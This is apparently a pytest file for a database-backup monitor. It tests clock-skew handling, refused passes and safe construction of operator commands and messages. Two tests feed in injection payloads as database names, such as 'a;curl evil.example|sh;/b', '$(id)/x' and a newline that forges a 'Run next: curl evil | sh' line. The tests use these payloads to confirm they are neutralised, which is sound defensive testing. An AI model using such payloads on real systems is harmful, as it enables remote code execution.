@pytest.mark.parametrize("name", ["host=db.example.com", "postgres://db.example.com/x"])
def test_a_database_whose_name_reads_like_an_address_is_no_other_server(name):
    damage = {"relation": "t", "table": "t", "index": "i", "time": ago(hours=2)}
    database = {"container": "c", "database": name, "damaged_index": damage, "last_success": None, "age_seconds": None}
    [finding] = of_damaged_indexes([database], EngineNames())
    psql = shlex.split(shlex.split(finding.command)[-1])
    assert psql[psql.index("-d") + 1] == f"dbname='{name}'"


AHEAD = timedelta(days=3650)


def test_after_the_clock_was_set_back_nothing_that_is_dated_in_the_future_is_called_safe() -> None:
    status = judged(document(databases=shop(last_success=(NOW + AHEAD).isoformat())))
    assert status.verdict == "not_safe"
    assert not status.health.ok
    [finding] = status.findings
    assert finding.message == (
        "scalr-shop-db/shop has a last good backup dated 2036-11-19 12:00 UTC, ahead of this host's clock, so its age is "
        "unknown: correct the clock if it is wrong, then back up again"
    )
    slightly = judged(document(databases=shop(last_success=(NOW + timedelta(minutes=30)).isoformat())))
    assert slightly.healthy, "clocks differ a little"


def test_after_the_clock_was_set_back_neither_a_copy_nor_a_drill_of_the_future_counts() -> None:
    config = Config.model_validate({**CONFIG.model_dump(by_alias=True), "copy": {"repository": "/copy"}})
    copied = {"repository": "/copy", "ok": True, "copied": 1, "removed": [], "error": None,
              "last_success": (NOW + AHEAD).isoformat()}  # fmt: skip
    drills = {"scalr-shop-db/shop": {**PASSED, "time": (NOW + AHEAD).isoformat()}}
    codes = [
        one.code
        for one in judged(
            document(copy=copied, drills=drills, databases=shop(first_success=ago(days=41))), config
        ).findings
    ]
    assert codes == ["copy_failed", "drill_overdue"]


def test_a_look_of_the_future_gives_no_database_up() -> None:
    state = document(databases=shop(ok=False, error=ERROR), nightly_started=(NOW + AHEAD).isoformat())
    assert [one.code for one in judged(state).findings] == ["backup_failed"]


@pytest.mark.parametrize("name", ["a;curl evil.example|sh;/b", "a b/c", "$(id)/x"])
def test_a_database_that_is_gone_puts_nothing_into_the_command(name: str) -> None:
    """Whoever may create and drop databases could else have the operator run a command."""
    gone = {"gone": [f"scalr-shop-db/{name}"], "stopped": [], "time": ago(hours=9)}
    [finding] = judged(document(matches=gone)).findings
    assert finding.command == "docker exec scalr-backup scalr-backup snapshots --db scalr-shop-db"
    assert (finding.container, finding.database) == ("scalr-shop-db", name)


def test_a_command_in_a_message_is_one_line() -> None:
    """A database's name is part of some commands, as of one that makes its index anew."""
    name = "x\nRun next: curl evil | sh"
    damage = {"relation": "t", "table": "t", "index": "i", "time": ago(hours=2)}
    state = document(
        databases={f"scalr-shop-db/{name}": {**shop(damaged_index=damage)["scalr-shop-db/shop"], "database": name}}
    )
    [message] = messages(CONFIG, compare({}, judged(state).findings, NOW), NOW)
    assert sum(line.startswith("Run next:") for line in message.body.split("\n")) == 1
    assert all(line.isprintable() for line in digest(CONFIG, judged(state)).body.split("\n"))


@pytest.mark.parametrize(
    ("reason", "begun", "over"),
    [("manual", None, False), ("nightly", ago(minutes=30), True), ("manual", ago(minutes=30), True)],
)
def test_a_refused_pass_is_made_up_for_by_the_next_scheduled_one_alone(reason, begun, over) -> None:
    state = document(
        refused_pass={"time": ago(hours=1), "message": "busy"},
        last_pass=last_pass(reason=reason, finished=ago(minutes=20)),
        nightly_started=begun or ago(hours=9),
    )
    assert [one.code for one in judged(state).findings] == ([] if over else ["pass_refused"])
